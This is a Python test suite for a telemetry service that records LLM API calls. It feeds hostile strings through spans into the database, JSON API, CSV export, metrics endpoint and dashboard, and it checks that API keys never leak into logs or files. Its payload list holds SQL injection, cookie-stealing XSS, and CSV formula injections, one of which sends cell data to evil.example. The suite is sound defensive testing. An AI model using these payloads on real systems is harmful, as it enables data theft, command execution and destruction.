"""Hostile strings from servers and clients, end to end: span → record → store → every sink.

Random and hand-picked hostile strings become model names, error types, conversation ids and
attribute values of real SDK spans; after `span_to_record` and `Store.write` they must come out
of /api/stats (valid JSON, verbatim), the CSV export by model (neutralised text, numbers still
numbers), /metrics (parseable, length-capped labels) and the dashboard page (never as HTML).
SQL injection is stored verbatim; API keys never reach a log record, a row or a file.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from prometheus_client.parser import text_string_to_metric_families

from otelstats import semconv
from otelstats.config import Settings
from otelstats.export import FORMULA_PREFIXES, MODEL_DAILY_COLUMNS, sanitize_cell
from otelstats.exporter import StatsSpanExporter
from otelstats.fake_server import FakeOpenAIServer, Reply
from otelstats.instrumentation import OpenAIInstrumentor
from otelstats.receivers.proxy import ProxyServer, create_proxy_app, recording_provider
from otelstats.records import MAX_LABEL_LENGTH, CallRecord, span_to_record
from otelstats.store import Store
from otelstats.web import create_app

HOSTILE = [
    "'); DROP TABLE calls;--",
    '"; DELETE FROM rollups; --',
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(document.cookie)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    'quote " and \\ backslash \\" ',
    "line\nbreak\r\nand\rCR",
    "nul\x00byte",
    "lone \ud800 surrogate \udfff",
    "\u202eRTL override\u200f mark",
    "{{7*7}} ${7*7} %s %n",
    'a="b",c="d"} 1\nfake_metric 2',
    "x" * 10_000,
]
TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(min_size=1, max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=40).map(lambda s: "=" + s),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20)),
)
CLIENT_LOGGERS = ("openai", "httpx", "httpcore")  # the calling app's HTTP stack, not otelstats
NUMERIC = {
    "requests", "prompt_tokens", "completion_tokens", "total_tokens",
    "avg_tokens_per_second", "avg_latency_ms", "success_rate",
}  # fmt: skip


@pytest.fixture(scope="module")
def template_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A migrated, empty database; each example starts from a copy (migrating each time is slow)."""
    path = tmp_path_factory.mktemp("template") / "stats.db"
    Store.open(path).dispose()
    return path


@pytest.fixture(scope="module")
def spans() -> Iterator[tuple[TracerProvider, InMemorySpanExporter]]:
    memory = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(memory))
    yield provider, memory
    provider.shutdown()


def _record(spans: tuple[TracerProvider, InMemorySpanExporter], **strings: str) -> CallRecord:
    provider, memory = spans
    memory.clear()
    tracer = provider.get_tracer("tests.reliability.hostile")
    attributes: dict[str, Any] = {
        semconv.OPERATION_NAME: "chat",
        semconv.PROVIDER_NAME: strings["provider"],
        semconv.REQUEST_MODEL: strings["model"],
        semconv.RESPONSE_MODEL: strings["model"],
        semconv.SERVER_ADDRESS: strings["address"],
        semconv.CONVERSATION_ID: strings["conversation"],
        semconv.ERROR_TYPE: strings["error_type"],
        semconv.RESPONSE_FINISH_REASONS: (strings["address"],),
        semconv.USAGE_INPUT_TOKENS: 7,
        semconv.USAGE_OUTPUT_TOKENS: 11,
    }
    with tracer.start_as_current_span("chat", attributes=attributes):
        pass
    (span,) = memory.get_finished_spans()
    record = span_to_record(span)
    assert record is not None
    return record


def _check_json(client: FlaskClient, record: CallRecord) -> None:
    response = client.get("/api/stats?period=all&tz=UTC")
    assert response.status_code == 200
    body = json.loads(response.data.decode("utf-8"))  # strict UTF-8 and strict JSON
    assert json.loads(json.dumps(body)) == body
    assert [m["model"] for m in body["models"]] == [record.model]  # verbatim
    assert body["overview"]["requests"] == 1
    assert body["overview"]["errors"] == 1
    assert body["overview"]["conversations"] == 1


def _check_csv(client: FlaskClient, record: CallRecord) -> None:
    response = client.get("/api/export.csv?by=model&period=all&tz=UTC")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8"), newline="")))
    assert tuple(rows[0]) == MODEL_DAILY_COLUMNS
    (row,) = (r for r in rows[1:] if r[2] != "0")  # the day with the call
    cells = dict(zip(MODEL_DAILY_COLUMNS, row, strict=True))
    assert cells["model"] == sanitize_cell(record.model)
    for name, cell in cells.items():
        if name in NUMERIC:
            assert cell == "" or float(cell) == float(cell)  # a number (or empty), not text
        else:
            assert not cell.startswith(FORMULA_PREFIXES), (name, cell)
    assert int(cells["requests"]) == 1


def _check_metrics(client: FlaskClient, record: CallRecord) -> None:
    response = client.get("/metrics")
    assert response.status_code == 200
    families = list(text_string_to_metric_families(response.data.decode("utf-8")))
    models = set()
    for family in families:
        for sample in family.samples:
            for value in sample.labels.values():
                assert len(value) <= MAX_LABEL_LENGTH
            if "gen_ai_request_model" in sample.labels:
                models.add(sample.labels["gen_ai_request_model"])
            if "error_type" in sample.labels:
                assert sample.labels["error_type"] == record.error_type
    assert models == {record.model}  # escaped on the way out, parsed back to the same text


def _page(client: FlaskClient) -> str:
    response = client.get("/")
    assert response.status_code == 200
    return response.data.decode("utf-8")


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    model=TEXT, provider=TEXT, address=TEXT, conversation=TEXT, error_type=TEXT,
)  # fmt: skip
def test_hostile_strings_reach_every_sink_intact_and_harmless(
    template_db: Path,
    tmp_path_factory: pytest.TempPathFactory,
    spans: tuple[TracerProvider, InMemorySpanExporter],
    **strings: str,
) -> None:
    record = _record(spans, **strings)
    db = tmp_path_factory.mktemp("hostile") / "stats.db"
    shutil.copyfile(template_db, db)
    store = Store.open(db, migrate=False)
    try:
        client = create_app({"TESTING": True}, settings=Settings(), store=store).test_client()
        empty_page = _page(client)
        assert store.write([record]) == 1
        with store.engine.connect() as conn:
            stored = conn.execute(sa.text("SELECT model, error_type FROM calls")).one()
        assert tuple(stored) == (record.model, record.error_type)
        _check_json(client, record)
        _check_csv(client, record)
        _check_metrics(client, record)
        # The page is a shell: no server string ever enters it, however short or hostile.
        assert _page(client) == empty_page
    finally:
        store.dispose()
        shutil.rmtree(db.parent)


def test_static_scripts_never_write_html() -> None:
    """Every server string reaches the DOM as text: no HTML sinks in the dashboard's own scripts."""
    static = Path(create_app.__code__.co_filename).parent / "static"
    sinks = re.compile(r"\.(innerHTML|outerHTML)\s*=|insertAdjacentHTML|document\.write|eval\(")
    scripts = sorted(static.glob("*.js"))
    assert scripts
    for script in scripts:
        assert not sinks.search(script.read_text()), script.name


def test_sql_injection_model_is_stored_and_shown_verbatim(store: Store) -> None:
    """Through the real SDK and instrumentation, on both backends: bound parameters only."""
    evil = "'); DROP TABLE calls;--"
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(StatsSpanExporter(store)))
    instrumentor = OpenAIInstrumentor()
    instrumentor.instrument(tracer_provider=provider)
    try:
        with (
            FakeOpenAIServer() as server,
            openai.OpenAI(base_url=server.base_url, api_key="sk-x", max_retries=0) as sdk,
        ):
            sdk.chat.completions.create(model=evil, messages=[{"role": "user", "content": "x"}])
    finally:
        instrumentor.uninstrument()
        provider.shutdown()
    tables = set(sa.inspect(store.engine).get_table_names())
    assert {"calls", "rollups", "metric_totals"} <= tables
    with store.engine.connect() as conn:
        assert conn.execute(sa.text("SELECT model FROM calls")).scalars().all() == [evil]
    client = create_app({"TESTING": True}, settings=Settings(), store=store).test_client()
    body = client.get("/api/stats?period=all").get_json()
    assert [m["model"] for m in body["models"]] == [evil]
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv?by=model").text)))
    assert [r["model"] for r in rows if r["requests"] != "0"] == [evil]  # no formula prefix
    metrics = client.get("/metrics").text
    samples = [
        s
        for f in text_string_to_metric_families(metrics)
        for s in f.samples
        if s.name == "otelstats_requests_total"
    ]
    assert [s.labels["gen_ai_request_model"] for s in samples] == [evil]


@pytest.mark.slow
def test_api_keys_are_never_logged_or_stored(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    key = f"sk-otelstats-LEAKCHECK-{uuid.uuid4().hex}"
    org = f"org-LEAKCHECK{uuid.uuid4().hex[:12]}"
    data = tmp_path / "data"
    sdk_store = Store.open(data / "sdk.db")
    proxy_store = Store.open(data / "proxy.db")
    caplog.set_level(logging.DEBUG)  # every logger, every level
    instrumentor = OpenAIInstrumentor()
    sdk_provider = TracerProvider()
    sdk_provider.add_span_processor(SimpleSpanProcessor(StatsSpanExporter(sdk_store)))
    proxy_provider = recording_provider(StatsSpanExporter(proxy_store), export_interval_ms=50)
    messages = [{"role": "user", "content": "hi"}]
    # The upstream echoes the key and an organisation id in its error, as real servers do.
    leaky = Reply(
        status=401,
        error_code="invalid_api_key",
        error_message=f"Incorrect API key provided: {key} (organization {org})",
    )
    try:
        with FakeOpenAIServer() as upstream:
            instrumentor.instrument(tracer_provider=sdk_provider)
            try:
                with openai.OpenAI(
                    base_url=upstream.base_url, api_key=key, max_retries=0
                ) as direct:
                    direct.chat.completions.create(model="m", messages=messages)
                    for _ in direct.chat.completions.create(
                        model="m", messages=messages, stream=True
                    ):
                        pass
                    upstream.push(leaky)
                    with pytest.raises(openai.AuthenticationError):
                        direct.chat.completions.create(model="m", messages=messages)
            finally:
                instrumentor.uninstrument()
            proxy = ProxyServer(create_proxy_app(upstream.base_url, proxy_provider)).start()
            try:
                # Some clients also put the key in the query string: the proxy's request log
                # must drop it (the client library's own log shows its URL; that is the app's).
                with openai.OpenAI(
                    base_url=proxy.base_url,
                    api_key=key,
                    default_query={"api_key": key},
                    max_retries=0,
                ) as via:
                    via.chat.completions.create(model="m", messages=messages)
                    for _ in via.chat.completions.create(model="m", messages=messages, stream=True):
                        pass
                    upstream.push(leaky)
                    with pytest.raises(openai.AuthenticationError):
                        via.chat.completions.create(model="m", messages=messages)
            finally:
                proxy.shutdown()
            # The key really went over the wire (so not finding it below means something).
            assert all(r.headers["authorization"] == f"Bearer {key}" for r in upstream.requests)
            assert len(upstream.requests) == 6
    finally:
        sdk_provider.shutdown()
        proxy_provider.shutdown()
    for store in (sdk_store, proxy_store):
        with store.engine.connect() as conn:
            assert conn.execute(sa.text("SELECT count(*) FROM calls")).scalar() == 3
        store.dispose()

    formatter = logging.Formatter("%(name)s %(message)s")
    ours = [formatter.format(r) for r in caplog.records if not r.name.startswith(CLIENT_LOGGERS)]
    assert any(line.startswith("werkzeug") for line in ours)  # the proxy did log its requests
    assert [line for line in ours if key in line or org in line] == []
    out, err = capfd.readouterr()
    assert key not in out + err
    assert org not in out + err
    files = [p for p in data.rglob("*") if p.is_file()]
    assert any(p.name == "sdk.db" for p in files)
    for path in files:
        content = path.read_bytes()
        assert key.encode() not in content, path
        assert org.encode() not in content, path
